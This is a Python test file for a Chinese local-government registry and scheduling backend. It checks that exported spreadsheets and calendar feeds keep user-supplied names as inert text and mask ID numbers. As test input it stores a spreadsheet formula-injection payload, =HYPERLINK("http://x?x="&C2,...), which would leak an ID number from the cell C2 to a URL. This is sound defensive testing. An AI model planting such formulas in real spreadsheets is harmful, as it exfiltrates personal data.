"""A name stored through the API comes back in every spreadsheet and calendar we produce as the text
it is: in 附件1/2/3, the venue ledger, the weekly plan and the monthly report a name such as
=HYPERLINK("http://x?x="&C2,"点击") is a text cell, never a live formula that would send the ID
number in C2 to a URL; the ledgers mask ID numbers on request; the .ics feed carries the
VTIMEZONE of every TZID it uses and, like the plan's sheet, speaks Chinese rather than codes."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from icalendar import Calendar
from sqlalchemy import select
from sqlmodel import Session

from backend.accounts.permissions import Role
from backend.core.config import get_settings
from backend.ledgers import service as ledgers
from backend.orgunits.models import OrgUnit
from backend.registry import idnumber
from backend.venues.models import Venue
from tests.coverage.fixture import MONTH, build_world
from tests.factories import user_client
from tests.registry.factories import child_item, household_item, push
from tests.registry.factories import make_world as registry_world
from tests.schedules.test_schedule_api import _login, _seed
from tests.venues.factories import credit_code, grid_point
from tests.venues.factories import make_world as venue_world
from tests.xlsx_support import read_workbook

HYPERLINK = '=HYPERLINK("http://x?x="&C2,"点击")'
CODES = ("key_venue", "high_risk", "carried_over", "overdue_problem", "routine", "police", "market_supervision",
         "womens_federation", "government", "Mon-", "Tue-", "Wed-", "Thu-", "Fri-", "Sat-", "Sun-")


def _formulas(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [n for n in archive.namelist()
                if n.startswith("xl/worksheets/") and re.search(rb"<f[ >]", archive.read(n))]


def _cells(content: bytes) -> list[tuple[Any, str]]:
    book = read_workbook(content)
    return [(c.value, c.data_type) for ws in book.worksheets for row in ws.iter_rows() for c in row]


def _holds_the_name_as_text(content: bytes, name: str = HYPERLINK) -> None:
    assert _formulas(content) == []
    assert (name, "s") in _cells(content)


def test_a_childs_name_written_as_a_formula_stays_text_in_annex_1_and_3(client: TestClient, session: Session) -> None:
    w = registry_world(client, session)
    h = household_item(0)
    push(client, w.volunteer_a, [h, child_item(h["client_uuid"], name=HYPERLINK, categories=["心理困境"],
                                               vulnerable=True)])
    for annex in (1, 3):
        resp = client.get(f"/api/v1/ledgers/{annex}.xlsx", headers=w.coordinator.headers)
        assert resp.status_code == 200, resp.text
        _holds_the_name_as_text(resp.content)


def test_a_risk_persons_name_written_as_a_formula_stays_text_in_annex_2(client: TestClient, session: Session) -> None:
    w = registry_world(client, session)
    resp = client.post("/api/v1/risk-persons", headers=w.coordinator.headers,
                       json={"name": HYPERLINK, "categories": ["1"], "control_measures": "@SUM(1+1)"})
    assert resp.status_code == 201, resp.text
    ledger = client.get("/api/v1/ledgers/2.xlsx", headers=w.coordinator.headers)
    _holds_the_name_as_text(ledger.content)
    assert ("@SUM(1+1)", "s") in _cells(ledger.content)


def test_a_masked_ledger_carries_the_region_only(client: TestClient, session: Session) -> None:
    w = registry_world(client, session)
    h = household_item(0)
    push(client, w.volunteer_a, [h, child_item(h["client_uuid"], categories=["生活困境"])])
    full = client.get("/api/v1/ledgers/1.xlsx", headers=w.coordinator.headers)
    number = [v for v, _ in _cells(full.content) if isinstance(v, str) and re.fullmatch(r"\d{17}[\dX]", v)]
    assert len(number) == 1
    masked = client.get("/api/v1/ledgers/1.xlsx?masked=true", headers=w.coordinator.headers)
    assert masked.status_code == 200
    values = [v for v, _ in _cells(masked.content) if v is not None]
    assert idnumber.mask(number[0]) in values and number[0][:6] + "*" * 12 in values
    assert not any(number[0][6:14] in str(v) for v in values)  # no birth date, no sequence
    assert client.get("/api/v1/ledgers/1.xlsx?masked=true", headers=w.police.headers).status_code == 200


def test_the_printed_layout_has_the_annex_row_and_title_and_still_imports(
        client: TestClient, session: Session, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ledgers, "PRINTED_LAYOUT", True)
    w = registry_world(client, session)
    h = household_item(0)
    push(client, w.volunteer_a, [h, child_item(h["client_uuid"], name="王小明", categories=["心理困境"],
                                               vulnerable=True)])
    assert client.post("/api/v1/risk-persons", headers=w.coordinator.headers,
                       json={"name": "某丙", "id_number": "11010519491231002X", "sex": "female",
                             "categories": ["2", "5"]}).status_code == 201
    resp = client.get("/api/v1/ledgers/1.xlsx", headers=w.coordinator.headers)
    sheet = read_workbook(resp.content).worksheets[0]
    assert sheet["A1"].value == "附件1：" and sheet["A2"].value == "重点未成年人摸排台账"
    assert sheet["A3"].value == "序号" and sheet["I3"].value.startswith("分类：严重不良行为、不良行为")
    assert sheet["O3"].value.startswith("综合研判风险等级（低风险")
    assert sheet["B3"].font.b and sheet.freeze_panes == "A4"
    assert sheet["B4"].value == "王小明"
    annex2 = read_workbook(client.get("/api/v1/ledgers/2.xlsx", headers=w.coordinator.headers).content)
    assert annex2.worksheets[0]["H3"].value.startswith("分类：1、性侵犯罪前科刑满释放人员；2、社区矫正对象")
    for annex in (1, 2, 3):
        content = client.get(f"/api/v1/ledgers/{annex}.xlsx", headers=w.coordinator.headers).content
        back = client.post(f"/api/v1/ledgers/{annex}/import?dry_run=true", headers=w.coordinator.headers,
                           files={"file": (f"{annex}.xlsx", content, "application/octet-stream")})
        assert back.status_code == 200, back.text
        assert back.json()["ok"] and back.json()["rows"] == 1 and back.json()["created"] == 0, back.json()


def test_a_venue_named_as_a_formula_stays_text_in_the_venue_ledger(client: TestClient, session: Session) -> None:
    w = venue_world(client, session)
    lon, lat = grid_point((0, 0))
    resp = client.post("/api/v1/venues", headers=w.market.headers, json={
        "venue_type": "hotel", "name": HYPERLINK, "credit_code": credit_code(), "lon": lon, "lat": lat,
        "owner_phone": "01088886666"})
    assert resp.status_code == 201, resp.text
    ledger = client.get("/api/v1/venues/export.xlsx", headers=w.market.headers)
    _holds_the_name_as_text(ledger.content)
    assert ("01088886666", "s") in _cells(ledger.content)


def test_the_weekly_plan_keeps_names_as_text_and_speaks_chinese(client: TestClient, session: Session) -> None:
    town_id = _seed(session)
    coordinator = _login(client, "演示乡镇协调员")
    key = session.execute(select(Venue).where(Venue.is_key, Venue.status == "open")).scalars().first()
    assert key is not None
    renamed = client.patch(f"/api/v1/venues/{key.id}", json={"name": HYPERLINK}, headers=coordinator)
    assert renamed.status_code == 200, renamed.text
    plan = client.post("/api/v1/schedules/generate", json={"org_unit_id": town_id}, headers=coordinator).json()
    sheet = client.get(f"/api/v1/schedules/{plan['id']}/export.xlsx", headers=coordinator)
    _holds_the_name_as_text(sheet.content)
    text = "\n".join(str(v) for v, _ in _cells(sheet.content) if v is not None)
    assert not [c for c in CODES if c in text]
    assert "重点场所" in text and re.search(r"周[一二三四五六日]第\d组", text)


def test_the_calendar_feed_defines_its_timezones_and_speaks_chinese(client: TestClient, session: Session) -> None:
    town_id = _seed(session)
    coordinator = _login(client, "演示乡镇协调员")
    plan = client.post("/api/v1/schedules/generate", json={"org_unit_id": town_id}, headers=coordinator).json()
    assert client.post(f"/api/v1/schedules/{plan['id']}/publish", headers=coordinator).status_code == 200
    police = _login(client, "演示民警")
    url = client.get("/api/v1/schedules/feed-url", headers=police).json()["url"]
    feed = client.get(url.split("testserver", 1)[1])
    assert feed.status_code == 200
    used = set(re.findall(r";TZID=([^:;]+)", feed.text.replace("\r\n ", "")))
    assert used == {"Asia/Shanghai"}
    calendar = Calendar.from_ical(feed.content)
    assert {str(tz["TZID"]) for tz in calendar.walk("VTIMEZONE")} >= used
    descriptions = [str(e["description"]) for e in calendar.walk("VEVENT")]
    assert descriptions
    for description in descriptions:
        assert not [c for c in CODES if c in description], description
        assert re.match(r"周[一二三四五六日]第\d组 第\d+站；原因：", description)


def test_the_calendar_feed_carries_no_control_characters_typed_into_names(client: TestClient,
                                                                         session: Session) -> None:
    """RFC 5545 TEXT holds no control characters, and strict calendar apps drop a whole feed over one.
    The API refuses them (backend/core/text.py); names stored before it did may still hold them."""
    town_id = _seed(session)
    coordinator = _login(client, "演示乡镇协调员")
    for venue in session.execute(select(Venue).where(Venue.status == "open")).scalars().all():
        renamed = client.patch(f"/api/v1/venues/{venue.id}", json={"name": f"网吧\x01{venue.id}"}, headers=coordinator)
        assert renamed.status_code == 422, renamed.text
        venue.name = f"网吧\x01\x1b{venue.id}\ufffe\x7f"  # stored before the rule
    session.commit()
    plan = client.post("/api/v1/schedules/generate", json={"org_unit_id": town_id}, headers=coordinator).json()
    assert client.post(f"/api/v1/schedules/{plan['id']}/publish", headers=coordinator).status_code == 200
    police = _login(client, "演示民警")
    url = client.get("/api/v1/schedules/feed-url", headers=police).json()["url"]
    feed = client.get(url.split("testserver", 1)[1])
    assert "网吧" in feed.text
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ufffe\uffff]", feed.text), feed.text[:500]


@pytest.fixture
def _media_root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HULEI_MEDIA_ROOT", str(tmp_path / "media"))
    get_settings.cache_clear()


@pytest.mark.usefixtures("_media_root")
def test_a_unit_named_as_a_formula_stays_text_in_the_monthly_report(client: TestClient, session: Session) -> None:
    world = build_world(session)
    village = session.get(OrgUnit, world.town.villages[0].id)
    assert village is not None
    village.name = HYPERLINK  # unit names come from the boundary import, not from an endpoint
    session.add(village)
    session.commit()
    coordinator = user_client(client, session, world.town.town, Role.coordinator)
    report = client.post("/api/v1/reports/monthly", json={"month": MONTH}, headers=coordinator.headers)
    assert report.status_code == 201, report.text
    xlsx = client.get(report.json()["xlsx_url"], headers=coordinator.headers)
    _holds_the_name_as_text(xlsx.content)
